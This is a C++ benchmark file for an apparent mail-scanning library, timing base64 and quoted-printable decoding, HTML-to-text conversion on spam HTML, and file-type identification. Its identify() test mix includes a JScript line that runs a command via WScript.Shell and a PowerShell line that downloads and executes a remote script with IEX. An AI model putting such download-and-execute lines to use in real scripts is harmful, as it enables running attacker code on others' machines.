// Core decoders on the sizes mail brings: base64 and quoted-printable bodies of 1 MiB,
// html_to_text on a 100 KiB page made of real spam HTML, identify() on a mix of real files.
#include <benchmark/benchmark.h>

#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

#include "bench/bench_data.h"
#include "core/bytes.h"
#include "core/file_type.h"
#include "core/html_text.h"
#include "core/transfer_encoding.h"

namespace lg::bench {
namespace {

constexpr std::size_t kMiB = 1u << 20;

// base64 as mail carries it: 76-column lines ending in CRLF.
std::string mime_base64(std::string_view raw) {
  const std::string flat = encode_base64(as_bytes(raw));
  std::string out;
  out.reserve(flat.size() + flat.size() / 76 * 2 + 2);
  for (std::size_t i = 0; i < flat.size(); i += 76) {
    out.append(flat, i, 76);
    out += "\r\n";
  }
  return out;
}

// Quoted-printable of mixed text: mostly ASCII prose, some 8-bit bytes, soft line breaks.
std::string mime_quoted_printable(std::size_t size) {
  static constexpr char kHex[] = "0123456789ABCDEF";
  const std::string noise = random_bytes(size);
  static constexpr std::string_view kProse =
      "Dear partner, please review the attached investment terms before Friday. ";
  std::string out;
  std::size_t col = 0;
  for (std::size_t i = 0; out.size() < size; ++i) {
    const auto b = static_cast<unsigned char>(noise[i % noise.size()]);
    std::string token;
    if (b < 16) {                   // about one byte in sixteen is 8-bit
      token = {'=', 'E', kHex[b]};  // Latin-1 letters, e.g. =E9
    } else {
      token = kProse[i % kProse.size()];
    }
    if (col + token.size() > 75) {
      out += "=\r\n";
      col = 0;
    }
    out += token;
    col += token.size();
  }
  return out;
}

// About 100 KiB of real HTML: the HTML parts of spam messages from the shared corpus, one
// after another; a generated newsletter when the corpus is absent.
std::string html_page(std::size_t size) {
  std::string page;
  for (const auto& path : corpus_files("mail/spam", 500)) {
    const std::string msg = read_file(path);
    std::string lower(msg);
    for (char& c : lower) c = static_cast<char>(c >= 'A' && c <= 'Z' ? c + 32 : c);
    const std::size_t start = lower.find("<html");
    if (start == std::string::npos) continue;
    const std::size_t end = lower.find("</html>", start);
    page.append(msg, start, end == std::string::npos ? std::string::npos : end + 7 - start);
    page += '\n';
    if (page.size() >= size) break;
  }
  while (page.size() < size) {
    page +=
        "<table width=\"600\"><tr><td style=\"font-family:Arial\"><p>Dear investor,&nbsp;"
        "our <b>token sale</b> opens today &mdash; <a href=\"https://example.com/claim?id=1\">"
        "claim your allocation</a>.</p><script>var x = '<p>';</script><style>p{color:red}"
        "</style><div>Caf&eacute; &#x41;&#66; &lt;tag&gt;</div></td></tr></table>\n";
  }
  return page;
}

void BM_DecodeBase64(benchmark::State& state) {
  const std::string in = mime_base64(random_bytes(kMiB * 3 / 4));
  for (auto _ : state) {
    Decoding d = decode_base64(in);
    benchmark::DoNotOptimize(d.data.data());
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations() * in.size()));
}
BENCHMARK(BM_DecodeBase64);

void BM_DecodeQuotedPrintable(benchmark::State& state) {
  const std::string in = mime_quoted_printable(kMiB);
  for (auto _ : state) {
    Decoding d = decode_quoted_printable(in);
    benchmark::DoNotOptimize(d.data.data());
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations() * in.size()));
}
BENCHMARK(BM_DecodeQuotedPrintable);

void BM_HtmlToText(benchmark::State& state) {
  const std::string page = html_page(100 * 1024);
  std::size_t links = 0;
  for (auto _ : state) {
    HtmlText t = html_to_text(page);
    links = t.links.size();
    benchmark::DoNotOptimize(t.text.data());
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations() * page.size()));
  state.counters["page_bytes"] = static_cast<double>(page.size());
  state.counters["links"] = static_cast<double>(links);
}
BENCHMARK(BM_HtmlToText);

// A mix: real messages, Office, PDF, LNK and HWP files, plus made-up executables, archives,
// scripts, HTML and noise, so every branch of identify() is taken.
std::vector<std::string> identify_mix() {
  std::vector<std::string> mix;
  for (const char* rel : {"mail/ham", "office", "pdf", "lnk", "hwp"}) {
    for (const auto& path : corpus_files(rel, 12)) {
      if (path.extension() == ".json") continue;
      mix.push_back(read_file(path));
    }
  }
  mix.push_back(std::string("MZ\x90\0", 4) + random_bytes(4000, 1));
  mix.push_back(std::string("\x7f"
                            "ELF\x02\x01\x01",
                            7) +
                random_bytes(4000, 2));
  mix.push_back(std::string("PK\x03\x04", 4) + random_bytes(4000, 3));
  mix.push_back("<!DOCTYPE html><html><head><title>Invoice</title></head><body>Hi</body></html>");
  mix.push_back("var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c calc');\n");
  mix.push_back("$c = New-Object Net.WebClient; IEX $c.DownloadString('http://x/a')\n");
  mix.push_back("Just a short plain text note.\nSee you tomorrow.\n");
  mix.push_back(random_bytes(8192, 4));
  return mix;
}

void BM_Identify(benchmark::State& state) {
  const std::vector<std::string> mix = identify_mix();
  std::size_t bytes = 0;
  for (const auto& m : mix) bytes += m.size();
  for (auto _ : state) {
    for (const auto& m : mix) benchmark::DoNotOptimize(identify(as_bytes(m)));
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations() * mix.size()));
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations() * bytes));
  state.counters["inputs"] = static_cast<double>(mix.size());
}
BENCHMARK(BM_Identify);

}  // namespace
}  // namespace lg::bench
